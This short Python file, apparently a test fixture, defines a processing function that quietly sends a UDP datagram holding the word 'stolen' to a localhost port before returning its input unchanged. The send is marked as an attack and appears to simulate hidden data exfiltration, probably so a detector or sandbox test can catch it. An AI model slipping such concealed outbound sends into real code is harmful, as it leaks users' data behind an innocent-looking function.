"""Network: a UDP datagram to the test's socket on 127.0.0.1."""

import socket

from params import PORT


def process(fragment):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # attack
    sock.sendto(b"stolen", ("127.0.0.1", PORT))
    return fragment
